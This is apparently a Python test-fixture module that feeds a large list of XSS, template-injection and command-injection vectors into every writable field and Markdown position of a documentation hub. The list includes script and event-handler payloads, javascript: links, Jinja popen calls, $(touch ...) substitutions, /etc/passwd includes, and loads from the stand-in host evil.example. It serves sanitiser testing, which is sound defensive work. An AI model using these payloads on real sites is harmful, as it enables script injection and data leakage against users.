"""Hostile contributions: vectors, each put into every place of a hub that somebody can write in."""

# ruff: noqa: E501 - what is tried stands on one line

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import NamedTuple

LEAK = "evil.example"
"""A host that nothing may ask for anything."""

VECTORS = tuple(
    line.replace("LEAK", LEAK)
    for line in r"""
<script>alert(N)</script>
<SCRIPT SRC=http://LEAK/N.js></SCRIPT>
<script/x>alert(N)</script>
<scr<script>ipt>alert(N)</scr</script>ipt>
</script><script>alert(N)</script>
</title><script>alert(N)</script>
</textarea><script>alert(N)</script>
</style></head><script>alert(N)</script>
--><script>alert(N)</script>
]]><script>alert(N)</script>
<!--><img src=x onerror=alert(N)>-->
<![><script>alert(N)</script>
<img src=x onerror=alert(N)>
<img src="http://LEAK/N.png">
<img/src=x/onerror=alert(N)>
<img src=x:x onerror="alert(N)"//
"><img src=x onerror=alert(N)>
'><img src=x onerror=alert(N)>
" onmouseover="alert(N)" x="
' onfocus='alert(N)' autofocus='
" autofocus onfocus=alert(N) tabindex=0 x="
`onmouseover=alert(N)`
<svg onload=alert(N)>
<svg><script>alert(N)</script></svg>
<svg><animate onbegin=alert(N) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(N)"><text y=20>clic</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(N)>
<iframe src="javascript:alert(N)"></iframe>
<iframe srcdoc="<script>parent.alert(N)</script>"></iframe>
<iframe src="http://LEAK/N"></iframe>
<object data="data:text/html,<script>alert(N)</script>"></object>
<embed src="http://LEAK/N.swf">
<base href="http://LEAK/N/">
<meta http-equiv="refresh" content="0;url=http://LEAK/N">
<link rel=stylesheet href=http://LEAK/N.css>
<style>@import 'http://LEAK/N.css';</style>
<div style="background:url(http://LEAK/N.png);position:fixed;inset:0">clic</div>
<p style="animation:x" onanimationstart="alert(N)">x</p>
<form action="http://LEAK/N"><input autofocus onfocus=alert(N)><button>clic</button></form>
<details open ontoggle=alert(N)><summary>clic</summary></details>
<video autoplay onerror=alert(N) src=x></video>
<audio src="http://LEAK/N.mp3" autoplay></audio>
<video poster="http://LEAK/N.png"></video>
<body onload=alert(N)>
<marquee onstart=alert(N)>x</marquee>
<a href="javascript:alert(N)">clic</a>
<a href="java&#10;script:alert(N)">clic</a>
<a id=location href=x>a</a><form id=hub name=currentScript></form>
<noscript><p title="</noscript><img src=x onerror=alert(N)>">
<template><script>alert(N)</script></template><select><option><img src=x onerror=alert(N)></select>
[clic](javascript:alert(N))
[clic](JaVaScRiPt:alert(N))
[clic](<javascript:alert(N)>)
[clic](javascript&colon;alert(N))
[clic](java&#x0A;script:alert(N))
[clic](&#106;avascript:alert(N))
[clic](javascript%3Aalert(N))
[clic](%6A%61vascript:alert(N))
[clic](vbscript:msgbox(N))
[clic](data:text/html,<script>alert(N)</script>)
[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[clic](feed:javascript:alert(N))
[clic](x "\" onmouseover=\"alert(N)")
[clic](x 'y" onmouseover="alert(N)')
[clic](x\" onmouseover=\"alert(N))
![image](javascript:alert(N))
![image](http://LEAK/N.png)
![image](//LEAK/N.png)
![x" onerror="alert(N)](x.png)
![image](x.png "\" onerror=\"alert(N)")
![image](data:image/svg+xml,<svg/onload=alert(N)>)
<javascript:alert(N)>
<data:text/html,alert(N)>
[[javascript:alert(N)]]
[[x" onmouseover="alert(N)|clic]]
[[<img src=x onerror=alert(N)>|<img src=x onerror=alert(N)>]]
{: onclick="alert(N)"}
{: style="background:url(http://LEAK/N.png)"}
clic{onclick=alert(N)}
{{ cycler.__init__.__globals__.os.popen('touch pwned-N').read() }}
{% include "/etc/passwd" %}<script>alert(N)</script>
{{ "<script>alert(N)</script>" | safe }}
--8<-- "/etc/passwd"
!include /etc/passwd
$(touch pwned-N)
`touch pwned-N`
; touch pwned-N
${alert(N)}
constructor.constructor('alert(N)')()
__proto__
";alert(N)//
';alert(N)//
\";alert(N)//
\u003cscript\u003ealert(N)\u003c/script\u003e
%3Cscript%3Ealert(N)%3C/script%3E
&lt;script&gt;alert(N)&lt;/script&gt;
&#60;script&#62;alert(N)&#60;/script&#62;
+ADw-script+AD4-alert(N)+ADw-/script+AD4-
=HYPERLINK("http://LEAK/N","clic")
}\end{x}\write18{touch pwned-N}
＜script＞alert(N)＜/script＞
＜img src=x onerror=alert(N)＞
﹤svg onload=alert(N)﹥
<ſcript>alert(N)</ſcript>
<ımg src=x onerror=alert(N)>
<svg></p><style><a id="</style><img src=x onerror=alert(N)>">
<math><mi//xlink:href="javascript:alert(N)">clic</mi></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(N)></annotation-xml></math>
<form id=t></form><button form=t formaction="javascript:alert(N)">clic</button>
<input type=image src=x onerror=alert(N)>
<isindex action="javascript:alert(N)" type=image>
<img srcset="http://LEAK/N.png 1x, x 2x" sizes=1px>
<picture><source srcset="http://LEAK/N.png"><img src=x></picture>
<a href=x ping="http://LEAK/N">clic</a>
<link rel=prefetch href="http://LEAK/N">
<link rel=dns-prefetch href="//LEAK">
<img src="x" style="content:url(http://LEAK/N.png)">
<table background="http://LEAK/N.png"><tr><td>x</table>
<frameset onload=alert(N)><frame src="javascript:alert(N)"></frameset>
<portal src="http://LEAK/N"></portal>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='alert(N)'/>#x"/></svg>
<svg><discard onbegin=alert(N)></svg>
<dialog open onclose=alert(N)><form method=dialog><button>clic</button></form></dialog>
<div popover id=p onbeforetoggle=alert(N)>x</div><button popovertarget=p>clic</button>
<xss contenteditable autofocus onfocus=alert(N)>x</xss>
<template shadowrootmode=open><script>alert(N)</script></template>
<script type=importmap>{"imports":{"x":"http://LEAK/N.js"}}</script>
<script type=speculationrules>{"prefetch":[{"urls":["http://LEAK/N"]}]}</script>
<?xml-stylesheet href="http://LEAK/N.css"?><?php alert(N) ?>
<![CDATA[<script>alert(N)</script>]]>
</noscript><script>alert(N)</script>
</template><script>alert(N)</script>
</code></pre><script>alert(N)</script>
</svg><script>alert(N)</script>
[clic](javascript&#58;alert(N))
[clic](javascript&#x3a;alert(N))
[clic](&Tab;javascript:alert(N))
[clic](java&NewLine;script:alert(N))
[clic](\javascript:alert(N))
[clic](javascript\:alert(N))
[clic](./javascript:alert(N))
[clic](#javascript:alert(N))
[clic](?javascript:alert(N))
[clic](blob:http://LEAK/N)
[clic](filesystem:http://LEAK/N)
[clic](view-source:javascript:alert(N))
[clic](jar:javascript:alert(N)!/)
[clic](intent:#Intent;scheme=javascript;end)
[clic](ｊavascript:alert(N))
[clic](javascript：alert(N))
![image](/\LEAK/N.png)
![image](\\\\LEAK\\N.png)
![image](https:LEAK/N.png)
![image](http:/\LEAK/N.png)
![image](///LEAK/N.png)
![image](/%2f/LEAK/N.png)
![image](&#x2f;&#x2f;LEAK/N.png)
![image](&#104;ttp://LEAK/N.png)
![](x.png){onerror=alert(N)}
[![image](//LEAK/N.png)](javascript:alert(N))
[[a|![image](http://LEAK/N.png)]]
[[<javascript:alert(N)>|clic]]
[^x]: <img src=x onerror=alert(N)>
*[HTML]: <img src=x onerror=alert(N)>
[clic][javascript:alert(N)]
::: <img src=x onerror=alert(N)>
!!! note "<img src=x onerror=alert(N)>"
??? "<script>alert(N)</script>"
=== "<img src=x onerror=alert(N)>"
$$\href{javascript:alert(N)}{clic}$$
\(\require{html}\href{javascript:alert(N)}{clic}\)
graph TD; A["<img src=x onerror=alert(N)>"]; click A "javascript:alert(N)"
{%raw%}<script>alert(N)</script>{%endraw%}
{#<img src=x onerror=alert(N)>#}
<%= alert(N) %><script>alert(N)</script>
[toc]<img src=x onerror=alert(N)>
:smile:" onmouseover="alert(N)
data-md-component="x" onclick="alert(N)"
&lt;img src=x onerror=alert(N)&gt;
&amp;lt;script&amp;gt;alert(N)&amp;lt;/script&amp;gt;
\x3cscript\x3ealert(N)\x3c/script\x3e
%253Cscript%253Ealert(N)%253C/script%253E
""".strip().splitlines()
)
"""What is tried; N is a number by which a run is known."""

PICTURES = tuple(
    f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" {more}>{inside}</svg>'
    for more, inside in (
        ('onload="alert(N)"', "<rect width='9' height='9'/>"),
        ("", "<script>alert(N)</script>"),
        ("", f"<script xlink:href='http://{LEAK}/N.js'/>"),
        (
            "",
            "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(N)'><script>alert(N)</script></body></foreignObject>",
        ),
        ("", "<a xlink:href='javascript:alert(N)'><rect width='99' height='99'/></a>"),
        ("", f"<image xlink:href='http://{LEAK}/N.png' width='9' height='9'/><use href='http://{LEAK}/N.svg#a'/>"),
        (
            "",
            f"<style>@import 'http://{LEAK}/N.css'; rect {{ fill: url(http://{LEAK}/N.svg#b) }}</style><rect width='9' height='9'/>",
        ),
        (
            f"style='background:url(http://{LEAK}/N.png)'",
            f"<rect width='9' height='9' fill='url(http://{LEAK}/N.svg#c)'/>",
        ),
        ("", "<animate onbegin='alert(N)' attributeName='x' dur='1s'/><set onbegin='alert(N)'/>"),
        (
            "",
            "<svg xmlns='http://www.w3.org/1999/xhtml'><script>alert(N)</script></svg><h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(N)</h:script>",
        ),
        (
            "",
            f"<filter id='f'><feImage href='http://{LEAK}/N.png'/></filter><rect width='9' height='9' filter='url(#f)'/>",
        ),
        (
            "",
            "<handler xmlns='http://www.w3.org/2001/xml-events' event='load'>alert(N)</handler><iframe src='javascript:alert(N)'/>",
        ),
    )
)

BODY: dict[str, Callable[[str], str]] = {
    "paragraph": lambda evil: evil,
    "heading": lambda evil: f"## {evil}",
    "cell": lambda evil: f"| a | b |\n|---|---|\n| {evil.replace('|', chr(92) + '|')} | x |",
    "head of a table": lambda evil: f"| {evil.replace('|', chr(92) + '|')} | b |\n|---|---|\n| x | y |",
    "item": lambda evil: f"- {evil}\n  1. {evil}",
    "task": lambda evil: f"- [ ] {evil}",
    "quotation": lambda evil: f"> {evil}",
    "alert": lambda evil: f"> [!NOTE]\n> {evil}",
    "kind of an alert": lambda evil: f"> [!{evil}]\n> x",
    "definition": lambda evil: f"{evil}\n: {evil}",
    "footnote": lambda evil: f"a[^n]\n\n[^n]: {evil}",
    "name of a footnote": lambda evil: f"a[^{evil}]\n\n[^{evil}]: x",
    "text of a link": lambda evil: f"[{evil}](x.md)",
    "address of a link": lambda evil: f"[clic](<{evil}>)",
    "title of a link": lambda evil: f"[clic](https://example.org '{evil}')",
    "reference": lambda evil: f"[clic][r]\n\n[r]: <{evil}> '{evil}'",
    "text of an image": lambda evil: f"![{evil}](x.png)",
    "source of an image": lambda evil: f"![image](<{evil}> '{evil}')",
    "sort of code": lambda evil: f"```{evil.replace('`', '')}\nx\n```",
    "code": lambda evil: f"```\n{evil}\n```\n\n``{evil}``",
    "wiki link": lambda evil: f"[[{evil}]] [[x|{evil}]]",
    "emphasis": lambda evil: f"**{evil}** ~~{evil}~~",
    "autolink": lambda evil: f"<https://example.org/{evil}>",
}
"""Places in a text."""


class Input(NamedTuple):
    """One vector in one place."""

    place: str
    vector: str


def numbered(vectors: tuple[str, ...], first: int = 1000) -> tuple[str, ...]:
    """Vectors with numbers of their own in the place of N."""
    return tuple(
        one.replace("(N)", f"({n})").replace("N.", f"{n}.").replace("/N", f"/{n}")
        for n, one in enumerate(vectors, first)
    )


def quoted(text: str) -> str:
    """A text as YAML."""
    return "'" + text.replace("'", "''") + "'"


FIELDS: dict[str, str] = {
    "notes": (
        "title: EVIL\nsummary: EVIL\nkeywords: [EVIL, Santé]\nthemes: [EVIL]\nplaces: [{country: BJ, department: EVIL, zone: EVIL}]\n"
        "authors: [EVIL, auteur]\naliases: [EVIL]\nlanguages: [EVIL]\nlicense: EVIL\nsources: [{title: EVIL, url: EVIL, year: 2015}]\n"
        "source: {title: EVIL, url: EVIL}\nlessons: [{id: L1, text: EVIL, strength: EVIL}]\nquestions: [EVIL]\nproject: EVIL\ndoi: EVIL\n"
        "contributors: [{person: auteur, roles: [EVIL]}]"
    ),
    "personnes": (
        "title: EVIL\ngiven_name: EVIL\nfamily_name: EVIL\norcid: EVIL\nbio: EVIL\nphoto: EVIL\nexpertise: [EVIL]\nlanguages: [EVIL]\n"
        "affiliations: [{organisation: EVIL, since: 2015}]\nconsent: {date: 2026-01-01}"
    ),
    "glossaire": "title: EVIL\nacronym: EVIL\nfr: [EVIL]\nen: [EVIL]\nvariants: [EVIL]\nclose_to: [EVIL]\ndefinition: EVIL",
    "organisations": "title: EVIL\nacronym: EVIL\ntype: EVIL\ncountry: EVIL\nror: EVIL\niati_org_id: EVIL\nurl: EVIL",
    "projets": "title: EVIL\nsummary: EVIL\nstart: EVIL\nbudget: EVIL\npartners: [EVIL]\niati_id: EVIL\nstatus: EVIL",
    "reunions": "title: EVIL\ndate: 2015-04-18\nplace: EVIL\nparticipants: [EVIL]\ndecisions: [{id: D1, text: EVIL, who: EVIL}]",
    "evenements": "title: EVIL\ndate: 2015-04-18\nplace: EVIL\nurl: EVIL\nprogramme: [{title: EVIL, speaker: EVIL}]",
    "ressources": "title: EVIL\nauthors: [EVIL]\nyear: 2015\nrights: EVIL\nfile: EVIL\nurl: EVIL",
    "groupes": "title: EVIL\nacronym: EVIL\nmission: EVIL\nmembers: [{person: EVIL, role: EVIL}]\nurl: EVIL",
    "wiki": "title: EVIL\nsummary: EVIL\nkeywords: [EVIL]",
    "billets": "title: EVIL\nsummary: EVIL\ndate: 2015-04-18\nkeywords: [EVIL]\ncomments: [{author: EVIL, text: EVIL}]",
    "collaborations": "title: EVIL\nsummary: EVIL\nquestion: EVIL\nphases: [{title: EVIL, text: EVIL}]",
}
"""Front matter by folder; EVIL is the vector. What a kind does not know or take costs a field, and is shown nowhere."""


def texts(vectors: tuple[str, ...]) -> Iterator[tuple[str, str, list[Input]]]:
    """Files of a hub that hold numbered vectors: path, text, and the inputs in it."""
    for n, evil in enumerate(vectors):
        told = quoted(evil)
        for folder, fields in FIELDS.items():
            front = fields.replace("EVIL", told)
            inputs = [Input(f"{folder}: field {number}", evil) for number in range(fields.count("EVIL"))]
            body = evil
            if folder == "notes":
                body = "\n\n".join(place(evil) for place in BODY.values())
                inputs += [Input(place, evil) for place in BODY]
            yield f"docs/{folder}/e{n}.md", f"---\n{front}\n---\n\n{body}\n", inputs
        name = evil.replace("/", "∕").replace("\\", "")[:60].strip(". ")
        if name:
            yield f"docs/notes/f{name}.md", f"---\ntitle: Nom {n}\n---\n\nTexte.\n", [Input("file name", evil)]
